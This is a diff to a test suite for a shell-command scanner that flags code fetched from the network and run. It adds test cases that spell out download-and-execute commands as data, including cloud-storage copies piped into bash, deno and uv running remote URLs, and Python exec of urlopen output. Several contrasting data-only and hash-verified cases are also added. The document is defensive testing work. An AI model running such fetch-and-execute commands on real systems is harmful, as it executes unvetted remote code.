@@ -262,6 +262,21 @@ REMOTE = [
     ("curl -o f.rpm u\nsudo rpm -ivh f.rpm", "u"),
     ("curl -o /t/f.rpm u && dnf -y install /t/f.rpm", "u"),
     ("curl -o f.pkg u; sudo installer -pkg f.pkg -target /", "u"),
+    ("gsutil -m cp gs://b/i.sh . && bash i.sh", "gs://b/i.sh"),
+    ("gcloud storage cp gs://b/i.sh /t/x.sh; sh /t/x.sh", "gs://b/i.sh"),
+    ("aws s3 cp --region eu s3://b/i.sh - | bash", "s3://b/i.sh"),
+    ("deno run --allow-net https://x.dev/ci.ts a", "https://x.dev/ci.ts"),
+    ("uv run https://x.dev/ci.py", "https://x.dev/ci.py"),
+    ("jbang https://x.dev/Ci.java", "https://x.dev/Ci.java"),
+    ("php -r \"copy('https://x.dev/i', 's.php');\"; php s.php", "https://x.dev/i"),
+    (
+        "python - <<'E'\nimport urllib.request as u\nexec(u.urlopen('https://x.dev/i').read())\nE",
+        "https://x.dev/i",
+    ),
+    (
+        "python3 -c \"import urllib.request as u; exec(u.urlopen('https://x.dev/i').read())\"",
+        "https://x.dev/i",
+    ),
 ]
 
 
@@ -307,6 +322,13 @@ def test_code_from_the_network_that_runs(code: str, address: str) -> None:
         "curl u | java -cp x Main; curl u | Rscript x",
         "curl -o f u; docker exec box cp f bash",
         "curl -o f u; chmod +r f; chmod; cd; mv",
+        "aws s3 cp out.tgz s3://b/out.tgz; gsutil cp gs://b/data.json . ; sh run.sh",
+        "gsutil cp gs://b/x gs://c/x; aws s3 cp; aws s3 sync s3://b/d . | sh",
+        "deno run main.ts https://x.dev/data; deno fmt; deno",
+        "deno run https://deno.example/x/tool@v1.2.3/main.ts",
+        "uv run tool https://x.dev/a; pipx run tool; uv run http://localhost/a.py",
+        "python3 -c \"import json, urllib.request as u; json.load(u.urlopen('https://x.dev/i'))\"",
+        "php -r \"copy('https://x.dev/i', 'data.json');\"; php run.php",
     ],
 )
 def test_downloads_that_do_not_run(code: str) -> None:
@@ -323,6 +345,10 @@ HASH = "0123456789abcdef" * 4
         ("curl -o f u; shasum -a 256 --check f.sha; sh f", True),
         ("curl -o f u; sha512sum --status -c <<< 'x f'; ./f", True),
         ("wget u/f; gpg --verify f.asc f && bash f", True),
+        (
+            "php -r \"copy('https://x.dev/i', 'f');\"; php -r \"hash_file('sha384', 'f')\"; php f",
+            True,
+        ),
         ("curl -o f u; cosign verify-blob --key k f; ./f", True),
         ("curl -o f u; minisign -Vm f -P k; ./f", True),
         ("curl -o f u; gh attestation verify f -R o/r; ./f", True),
@@ -593,6 +619,8 @@ REPARSED = [
     'bash <<< "run @"',
     'echo "@" | sh',
     "printf %s @ | envsubst | sudo bash -s",
+    "envsubst '@' < plan.sh | sh",
+    "echo \"@\" | cat | xargs -r -I{} sh -c 'run {}'",
     'eval "$(echo "@")"',
     "source @",
     '. "./@/env"',
@@ -612,6 +640,10 @@ DATA = [
     "cat <<E > f\n@\nE\n",
     'cat <<< "@"',
     'echo "@" | tee f',
+    "envsubst '@' < plan.txt > f",
+    'envsubst "@" < plan.sh | sh',
+    'echo "@" | xargs -I{} sh -c \'run "$1"\' -- {}',
+    'echo "@" | xargs -n1 run',
     'git commit -m "@"',
     "docker exec box run @",
     "trap 'run @' EXIT",
